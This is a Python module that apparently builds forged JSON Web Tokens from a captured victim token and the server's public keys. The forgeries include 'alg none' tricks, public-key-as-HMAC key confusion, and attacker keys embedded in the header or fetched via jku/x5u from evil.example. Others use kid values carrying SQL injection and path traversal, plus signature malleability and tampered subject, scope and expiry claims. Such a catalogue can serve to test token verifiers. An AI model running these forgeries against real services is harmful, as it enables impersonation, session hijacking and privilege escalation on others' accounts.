"""The forger's workshop: takes a real token apart and puts false ones together, by hand."""

import hashlib
import hmac
import json
from base64 import urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Callable
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import (
    decode_dss_signature,
    encode_dss_signature,
)
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
Members = dict[str, Any]


class Loot:
    """A real token of a victim, taken apart, and the server's public keys."""

    def __init__(self, token: str, jwks: Members) -> None:
        self.token = token
        self.first, self.second, self.third = token.split(".")
        self.header: Members = json.loads(decode(self.first))
        self.claims: Members = json.loads(decode(self.second))
        self.jwk: Members = jwks["keys"][0]

    @property
    def pem(self) -> bytes:
        numbers = (int.from_bytes(decode(self.jwk[each]), "big") for each in "xy")
        key = ec.EllipticCurvePublicNumbers(*numbers, ec.SECP256R1()).public_key()
        return key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)

    def unsigned(self, **header: Any) -> str:
        """The claims as they are, under another header, without a signature."""
        return f"{encode(self.header | header)}.{self.second}."

    def with_mac(self, key: bytes, **header: Any) -> str:
        """The claims as they are, under an HMAC with what everybody knows."""
        signed = f"{encode(self.header | {'alg': 'HS256'} | header)}.{self.second}"
        return f"{signed}.{spelled(hmac.digest(key, signed.encode(), hashlib.sha256))}"

    def with_own_key(self, claims: Members | None = None, **header: Any) -> str:
        """Signed by the attacker's own key, which the header may recommend."""
        key = ec.generate_private_key(ec.SECP256R1())
        header = {name: own_key(key) if value is OWN else value for name, value in header.items()}
        head = {name: value for name, value in (self.header | header).items() if value is not GONE}
        signed = f"{encode(head)}.{encode(claims or self.claims)}"
        r, s = decode_dss_signature(key.sign(signed.encode(), ec.ECDSA(SHA256())))
        return f"{signed}.{spelled(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"

    def with_claims(self, **claims: Any) -> str:
        """Other claims under the signature of the old ones."""
        return f"{self.first}.{encode(self.claims | claims)}.{self.third}"

    def signed_with(self, signature: bytes) -> str:
        return f"{self.first}.{self.second}.{spelled(signature)}"

    @property
    def signature(self) -> tuple[int, int]:
        raw = decode(self.third)
        return int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")

    @property
    def twin(self) -> str:
        """The same token in other bytes: an ECDSA signature (r, s) is as valid as (r, -s)."""
        r, s = self.signature
        return self.signed_with(r.to_bytes(32, "big") + (ORDER - s).to_bytes(32, "big"))


OWN = object()
GONE = object()
FORGERIES: dict[str, Callable[[Loot], str]] = {
    "alg none": lambda loot: loot.unsigned(alg="none"),
    "alg None": lambda loot: loot.unsigned(alg="None"),
    "alg nOnE": lambda loot: loot.unsigned(alg="nOnE"),
    "alg none with the old signature": lambda loot: loot.unsigned(alg="none") + loot.third,
    "alg empty": lambda loot: loot.unsigned(alg=""),
    "alg null": lambda loot: loot.unsigned(alg=None),
    "alg a list": lambda loot: loot.unsigned(alg=["none", "ES256"]),
    "no signature": lambda loot: f"{loot.first}.{loot.second}.",
    "two parts": lambda loot: f"{loot.first}.{loot.second}",
    "public key as HMAC secret, PEM": lambda loot: loot.with_mac(loot.pem),
    "public key as HMAC secret, JSON": lambda loot: loot.with_mac(json.dumps(loot.jwk).encode()),
    "public key as HMAC secret, x": lambda loot: loot.with_mac(decode(loot.jwk["x"])),
    "HMAC said to be ES256": lambda loot: loot.with_mac(loot.pem, alg="ES256"),
    "HMAC with an empty key": lambda loot: loot.with_mac(b"", kid="../../../dev/null"),
    "own key under the real kid": lambda loot: loot.with_own_key(),
    "own key without a kid": lambda loot: loot.with_own_key(kid=GONE),
    "own key under its own kid": lambda loot: loot.with_own_key(kid="mine"),
    "own key in jwk": lambda loot: loot.with_own_key(jwk=OWN),
    "own key in jwk, own kid": lambda loot: loot.with_own_key(jwk=OWN, kid="mine"),
    "own key behind jku": lambda loot: loot.with_own_key(jku="https://evil.example/jwks.json"),
    "own key behind x5u": lambda loot: loot.with_own_key(x5u="https://evil.example/cert.pem"),
    "own key in x5c": lambda loot: loot.with_own_key(x5c=["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]),
    "kid with SQL": lambda loot: loot.with_own_key(kid="' OR 1=1 --"),
    "kid a path": lambda loot: loot.with_own_key(kid="/proc/self/environ"),
    "kid a number": lambda loot: loot.with_own_key(kid=0),
    "kid an object": lambda loot: loot.with_own_key(kid={"$ne": None}),
    "crit": lambda loot: loot.with_own_key(crit=["exp"], exp=0),
    "b64 false": lambda loot: loot.with_own_key(b64=False, crit=["b64"]),
    "zip": lambda loot: loot.with_own_key(zip="DEF"),
    "a signature of zeros": lambda loot: loot.signed_with(bytes(64)),
    "r and s the order": lambda loot: loot.signed_with(ORDER.to_bytes(32, "big") * 2),
    "a signature in DER": lambda loot: loot.signed_with(encode_dss_signature(*loot.signature)),
    "other subject": lambda loot: loot.with_claims(sub="somebody-else"),
    "wider scope": lambda loot: loot.with_claims(scope="openid notes:read notes:write"),
    "later expiry": lambda loot: loot.with_claims(exp=loot.claims["exp"] + 10**6),
    "other session": lambda loot: loot.with_claims(sid="somebody-elses"),
    "padded": lambda loot: loot.token + "=",
    "a line break at the end": lambda loot: loot.token + "\n",
    "a dot at the end": lambda loot: loot.token + ".",
    "five parts": lambda loot: f"{loot.first}..{loot.second}.{loot.third}.x",
    "as JSON": lambda loot: json.dumps(
        {"protected": loot.first, "payload": loot.second, "signature": loot.third}
    ),
    "said twice in the header": lambda loot: (
        spelled(b'{"alg":"none",' + decode(loot.first)[1:]) + f".{loot.second}.{loot.third}"
    ),
    "not UTF-8": lambda loot: f"{spelled(bytes([255, 254]))}.{loot.second}.{loot.third}",
    "enormous": lambda loot: f"{loot.first}.{loot.second}{'A' * 7000}.{loot.third}",
}


def decode(part: str) -> bytes:
    return urlsafe_b64decode(part + "==")


def spelled(content: bytes) -> str:
    return urlsafe_b64encode(content).rstrip(b"=").decode()


def encode(members: Members) -> str:
    return spelled(json.dumps(members, separators=(",", ":")).encode())


def own_key(key: ec.EllipticCurvePrivateKey) -> Members:
    numbers = key.public_key().public_numbers()
    x, y = (spelled(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
    return {"kty": "EC", "crv": "P-256", "x": x, "y": y, "alg": "ES256", "use": "sig"}
